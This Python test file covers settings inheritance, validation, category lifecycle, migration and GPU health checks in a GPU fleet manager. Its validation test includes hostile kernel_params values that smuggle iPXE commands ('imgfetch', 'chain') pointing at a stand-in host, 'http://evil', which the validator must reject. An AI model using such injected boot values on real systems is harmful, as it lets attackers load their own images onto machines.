"""Categories and node settings on both backends: defaults < category < node with each value's origin,
all-or-nothing validation, categories made for nodes added to them, the migration of existing names,
and the health checks reading `expected_gpus` and `gpu_model` from the settings."""

from datetime import UTC, datetime

import pytest
import sqlalchemy as sa
from sqlalchemy.orm import Session, sessionmaker

from gpufleet.core.clock import FakeClock
from gpufleet.core.db import make_engine, make_session_factory, transaction
from gpufleet.core.errors import Conflict, InvalidInput, NotFound
from gpufleet.inventory import categories
from gpufleet.inventory import service as inventory
from gpufleet.inventory.categories import Resolved
from gpufleet.inventory.models import Node
from gpufleet.inventory.schemas import NodeSettings
from gpufleet.migrations import upgrade
from gpufleet.monitoring.checks import HealthPolicy, NodeSnapshot, evaluate
from gpufleet.protocol.settings import SETTINGS, parse_assignments
from tests.monitoring.test_health import Harness


def _origins(resolved: dict[str, Resolved]) -> dict[str, tuple[object, str]]:
    return {k: (r.value, r.origin) for k, r in resolved.items()}


def test_settings_resolve_defaults_then_category_then_node(sessions: sessionmaker[Session], clock: FakeClock) -> None:
    with transaction(sessions) as s:
        categories.create_category(s, clock, "h200", "HGX H200", {"partition": "gpu", "expected_gpus": "8"})
        node = inventory.add_nodes(s, clock, ["gpu001", "gpu002"], NodeSettings(category="h200"))[0]
        categories.update_node_settings(s, node, set_={"partition": "debug", "kernel_params": "quiet"})
    with transaction(sessions) as s:
        node = inventory.get_node(s, "gpu001")
        assert _origins(categories.resolve(s, node)) == {
            "software_image": (None, "default"),
            "sync_target": ("root@{address}:/", "default"),
            "partition": ("debug", "node"),
            "kernel_params": ("quiet", "node"),
            "expected_gpus": (8, "category"),  # stored as an int, though given as text
            "gpu_model": (None, "default"),
            "mig_layout": (None, "default"),
            "gpu_sharing": ("exclusive", "default"),
        }
        other = inventory.get_node(s, "gpu002")
        assert categories.resolve(s, other)["partition"] == Resolved("gpu", "category")
        assert categories.resolve_many(s, [node, other]) == {
            "gpu001": categories.resolve(s, node),
            "gpu002": categories.resolve(s, other),
        }
        # Unset at the node: the category's value again; unset at the category: the default.
        assert categories.update_node_settings(s, node, unset=["partition"])["partition"] == Resolved("gpu", "category")
        categories.update_category(s, clock, "h200", unset=["partition"], set_={"gpu_model": "H200"})
        assert categories.resolve(s, node)["partition"] == Resolved(None, "default")
        assert categories.resolve(s, node)["gpu_model"] == Resolved("H200", "category")
        # A node may set "none" over its category's value.
        categories.update_node_settings(s, node, set_={"expected_gpus": None})
        assert categories.resolve(s, node)["expected_gpus"] == Resolved(None, "node")
    node_without = Node(name="x", category=None, settings={})
    with transaction(sessions, readonly=True) as s:
        assert all(r.origin == "default" for r in categories.resolve(s, node_without).values())


BAD_CHANGES: list[tuple[dict[str, object], list[str], str]] = [
    ({"partition": "ok", "colour": "blue"}, [], "unknown setting 'colour' \\(known: software_image, "),
    ({"health_policy": "x"}, [], "gpufleet health-policy set"),
    ({"partition": "ok", "expected_gpus": "eight"}, [], "expected_gpus"),
    ({"expected_gpus": 65}, [], "expected_gpus"),
    ({"kernel_params": "quiet\nimgfetch http://evil"}, [], "kernel_params"),
    ({"kernel_params": "quiet && chain http://evil/k"}, [], "iPXE would read it as a command"),
    ({"kernel_params": "quiet ${root-path}"}, [], "iPXE would read it as a command"),
    ({"partition": "two words"}, [], "partition"),
    ({"sync_target": None}, [], "sync_target"),  # a key without a "none"
    ({"partition": "ok"}, ["nope"], "unknown setting 'nope'"),
    ({"partition": "ok"}, ["partition"], "both set and unset"),
]


def test_a_bad_key_or_value_changes_nothing(sessions: sessionmaker[Session], clock: FakeClock) -> None:
    with transaction(sessions) as s:
        categories.create_category(s, clock, "c", settings={"partition": "before"})
        inventory.add_nodes(s, clock, ["n1"], NodeSettings(category="c"))
    for set_, unset, message in BAD_CHANGES:
        with pytest.raises(InvalidInput, match=message), transaction(sessions) as s:
            categories.update_category(s, clock, "c", set_=set_, unset=unset, description="changed")
        with pytest.raises(InvalidInput, match=message), transaction(sessions) as s:
            node = inventory.get_node(s, "n1")
            categories.move_node(s, clock, node, "elsewhere")
            categories.update_node_settings(s, node, set_=set_, unset=unset)
        if not unset:
            with pytest.raises(InvalidInput, match=message), transaction(sessions) as s:
                categories.create_category(s, clock, "d", settings=set_)
    with transaction(sessions) as s:
        row = categories.get_category(s, "c")
        assert (row.settings, row.description) == ({"partition": "before"}, "")
        node = inventory.get_node(s, "n1")
        assert (node.category, node.settings) == ("c", {})
        assert [c.name for c in categories.list_categories(s)] == ["c"]


def test_categories_are_made_for_new_nodes_and_kept_while_they_hold_nodes(
    sessions: sessionmaker[Session], clock: FakeClock
) -> None:
    with transaction(sessions) as s:
        inventory.add_nodes(s, clock, ["gpu[001-003]"], NodeSettings(category="h200"))  # no such category yet
        categories.create_category(s, clock, "empty")
    with transaction(sessions) as s:
        assert [(c.name, c.settings) for c in categories.list_categories(s)] == [("empty", {}), ("h200", {})]
        assert categories.node_counts(s) == {"h200": 3}
        assert categories.node_names(s, "h200") == ["gpu001", "gpu002", "gpu003"]
    with pytest.raises(Conflict, match="already exists"), transaction(sessions) as s:
        categories.create_category(s, clock, "h200")
    with pytest.raises(InvalidInput, match="invalid category name"), transaction(sessions) as s:
        categories.create_category(s, clock, "bad name")
    with pytest.raises(Conflict, match="still has 3 node"), transaction(sessions) as s:
        categories.remove_category(s, "h200")
    with transaction(sessions) as s:
        categories.remove_category(s, "empty")
        for name in ("gpu001", "gpu002"):
            categories.move_node(s, clock, inventory.get_node(s, name), "a100")
        categories.move_node(s, clock, inventory.get_node(s, "gpu003"), None)
        categories.remove_category(s, "h200")
    with pytest.raises(NotFound), transaction(sessions) as s:
        categories.get_category(s, "empty")
    with transaction(sessions) as s:
        assert [c.name for c in categories.list_categories(s)] == ["a100"]


def test_clone_copies_the_nodes_own_settings(sessions: sessionmaker[Session], clock: FakeClock) -> None:
    with transaction(sessions) as s:
        src = inventory.add_nodes(s, clock, ["src"], NodeSettings(category="h200"))[0]
        categories.update_node_settings(s, src, set_={"kernel_params": "console=ttyS0"})
        clones = inventory.clone_node(s, clock, "src", ["c[1-2]"])
        assert [(c.category, c.settings) for c in clones] == [("h200", {"kernel_params": "console=ttyS0"})] * 2


def test_the_migration_makes_a_category_for_each_name_in_use(db_url: str) -> None:
    engine = make_engine(db_url)
    try:
        upgrade(engine, "0015")
        nodes = sa.table(
            "nodes",
            sa.column("name", sa.String),
            sa.column("state", sa.String),
            sa.column("state_since", sa.DateTime(timezone=True)),
            sa.column("created_at", sa.DateTime(timezone=True)),
            sa.column("category", sa.String),
            sa.column("labels", sa.JSON),
            sa.column("expected_gpus", sa.Integer),
            sa.column("health", sa.String),
            sa.column("health_reasons", sa.JSON),
        )
        now = datetime(2026, 1, 1, tzinfo=UTC)
        with engine.begin() as conn:
            conn.execute(
                nodes.insert(),
                [
                    {
                        "name": name,
                        "state": "new",
                        "state_since": now,
                        "created_at": now,
                        "category": category,
                        "labels": {},
                        "expected_gpus": 0,
                        "health": "unknown",
                        "health_reasons": [],
                    }
                    for name, category in [("a", "h200"), ("b", "h200"), ("c", "a100"), ("d", None)]
                ],
            )
        upgrade(engine)
        with transaction(make_session_factory(engine)) as s:
            assert [(c.name, c.settings, c.description) for c in categories.list_categories(s)] == [
                ("a100", {}, ""),
                ("h200", {}, ""),
            ]
            assert [n.settings for n in inventory.list_nodes(s)] == [{}] * 4
            assert categories.resolve(s, inventory.get_node(s, "a"))["partition"] == Resolved(None, "default")
    finally:
        engine.dispose()


def test_the_cli_reads_assignments_by_the_registry() -> None:
    assert parse_assignments(["expected_gpus=8", "partition=", "kernel_params=", "gpu_model=a=b"]) == {
        "expected_gpus": "8",  # the head reads it as an int
        "partition": None,  # may be none: an empty value is none
        "kernel_params": "",  # may not: an empty value is empty
        "gpu_model": "a=b",
    }
    with pytest.raises(ValueError, match="KEY=VALUE"):
        parse_assignments(["partition"])
    assert (SETTINGS["expected_gpus"].type, SETTINGS["expected_gpus"].nullable) == ("int", True)
    assert (SETTINGS["sync_target"].type, SETTINGS["sync_target"].nullable) == ("str", False)


def test_the_gpu_count_check_uses_the_category_and_node_settings(
    sessions: sessionmaker[Session], clock: FakeClock
) -> None:
    h = Harness(sessions, clock)  # node n1, 8 GPUs expected from its own reports
    with transaction(sessions) as s:
        node = s.get(Node, h.node_id)
        assert node is not None
        node.expected_gpus = 4  # it only ever reported 4
        categories.create_category(s, clock, "hgx", settings={"expected_gpus": 8})
        categories.move_node(s, clock, node, "hgx")
    h.sample(gpus=4)
    assert h.node().health_reasons == ["4 of 8 GPUs report"]
    with transaction(sessions) as s:
        node = s.get(Node, h.node_id)
        assert node is not None
        categories.update_node_settings(s, node, set_={"expected_gpus": 4})  # this one is a 4-GPU node
    for _ in range(2):  # the judge reads node facts again after FACTS_TTL_S
        h.sample(gpus=4)
    assert (h.node().health, h.node().health_reasons) == ("healthy", [])


def test_a_gpu_of_another_model_degrades_the_node() -> None:
    sample = {"gpu:0": {"gpu_util": 0.0}, "gpu:1": {"gpu_util": 0.0}}
    models = ["NVIDIA H200", "NVIDIA A100-SXM4-80GB"]
    wrong = NodeSnapshot(expected_gpus=2, samples=[sample], gpu_model="h200", gpu_models=models)
    verdict = evaluate(wrong, HealthPolicy())
    assert (verdict.state, verdict.reasons) == ("degraded", ("GPU model NVIDIA A100-SXM4-80GB, expected h200",))
    right = NodeSnapshot(expected_gpus=2, samples=[sample], gpu_model="H200", gpu_models=models[:1] * 2)
    assert evaluate(right, HealthPolicy()).state == "healthy"
